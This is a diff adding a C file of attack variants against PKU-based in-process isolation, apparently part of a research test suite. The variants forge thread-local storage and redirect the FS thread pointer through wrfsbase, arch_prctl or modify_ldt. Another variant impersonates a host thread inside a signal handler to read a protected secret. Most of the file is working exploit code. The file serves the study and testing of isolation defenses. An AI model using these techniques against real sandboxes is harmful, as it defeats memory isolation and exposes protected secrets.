@@ -1,0 +1,117 @@
+/* D7: the thread pointer bent to memory of the attacker's. Whatever the host keeps in
+ * thread-local storage, the value that its gate closes the domain with among it, is
+ * then the attacker's.
+ *
+ * as-host-thread: what knows a thread by its FS base alone takes it for another one. In a
+ * signal handler, where PKRU says nothing about who was interrupted, the fault
+ * handler has nothing else to go by. (Undefended, nobody asks: the key is closed there.)
+ *
+ * Source: [PKU Pitfalls 5.2], arch_prctl(2), modify_ldt(2), [SDM 2 WRFSBASE].
+ */
+#include <asm/ldt.h>
+#include <asm/prctl.h>
+#include <pthread.h>
+#include <sched.h>
+#include <signal.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+#include "attack.h"
+#include "mpk.h"
+#include "naive.h"
+
+#define BELOW 16384  /* thread-local storage lies below the thread pointer */
+#define ABOVE 4096   /* libc's record of the thread above */
+#define LDT_SELECTOR 7 /* entry 0, LDT, ring 3 */
+#define OPENED_PROT (PROT_READ | PROT_WRITE)
+
+static uintptr_t fs_base(void) {
+    uintptr_t base;
+    __asm__ volatile("rdfsbase %0" : "=r"(base));
+    return base;
+}
+
+/* A copy of this thread's storage below 2 GiB, where the gate's closed is opened. */
+static char *forged(void) {
+    char *memory = mmap(NULL, BELOW + ABOVE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
+    if (memory == MAP_FAILED) return NULL;
+    uintptr_t here = fs_base();
+    char *there = memory + BELOW;
+    const uintptr_t page = here & ~(uintptr_t)(PAGE_BYTES - 1);
+    size_t below = here - page; /* what is surely mapped */
+    memcpy(there - below, (char *)here - below, below);
+    memcpy(there, (char *)here, page + PAGE_BYTES - here);
+    *(char **)there = there;
+    *(char **)(there + 2 * sizeof(void *)) = there;
+    if (target.undefended) {
+        uint32_t open = target.pku ? 0 : OPENED_PROT;
+        memcpy(there + ((uintptr_t)naive_closed() - here), &open, sizeof open);
+    }
+    return there;
+}
+
+static void wrfsbase(void) {
+    char *storage = forged();
+    TRY("mmap", storage ? 0 : -1);
+    __asm__ volatile("wrfsbase %0" : : "r"(storage) : "memory");
+}
+
+static void by_arch_prctl(void) {
+    char *storage = forged();
+    TRY("mmap", storage ? 0 : -1);
+    TRY("arch_prctl", syscall(SYS_arch_prctl, ARCH_SET_FS, storage));
+}
+
+static void by_modify_ldt(void) {
+    char *storage = forged();
+    TRY("mmap", storage ? 0 : -1);
+    struct user_desc entry = {.base_addr = (unsigned)(uintptr_t)storage, .limit = 0xfffff, .seg_32bit = 1,
+                              .limit_in_pages = 1, .useable = 1};
+    TRY("modify_ldt", syscall(SYS_modify_ldt, 1, &entry, sizeof entry) ? -1 : 0);
+    __asm__ volatile("mov %0, %%fs" : : "r"(LDT_SELECTOR) : "memory");
+}
+
+static volatile uintptr_t host_thread;
+
+/* A thread of the host's with a record of its own, which lives on. */
+static void *be_host(void *unused) {
+    int token;
+    while (!target.secret) sched_yield();
+    if (!target.undefended) {
+        mpk_gate_enter(&token, "nothing");
+        mpk_gate_exit(&token);
+    }
+    host_thread = fs_base();
+    for (;;) pause();
+    return unused;
+}
+
+static void make_host_thread(void) {
+    pthread_t thread;
+    if (pthread_create(&thread, NULL, be_host, NULL)) return;
+    while (!host_thread) sched_yield();
+}
+
+static void pose(int number) {
+    (void)number;
+    uintptr_t own = fs_base(), word;
+    __asm__ volatile("wrfsbase %1\n\tmov (%2), %0\n\twrfsbase %3"
+                     : "=&r"(word)
+                     : "r"(host_thread), "r"(target.secret), "r"(own)
+                     : "memory");
+    attack_hand_in(&word, sizeof word);
+}
+
+static void as_host_thread(void) {
+    TRY("signal", signal(SIGUSR1, pose) == SIG_ERR ? -1 : 0);
+    TRY("raise", raise(SIGUSR1) ? -1 : 0);
+}
+
+const struct attack attacks[] = {
+    {.variant = "wrfsbase", .attack = wrfsbase, .again = attack_read},
+    {.variant = "arch-prctl", .attack = by_arch_prctl, .again = attack_read},
+    {.variant = "modify-ldt", .attack = by_modify_ldt, .again = attack_read},
+    {.variant = "as-host-thread", .while_open = make_host_thread, .attack = as_host_thread, .flags = ATTACK_CONTROL},
+    {0},
+};
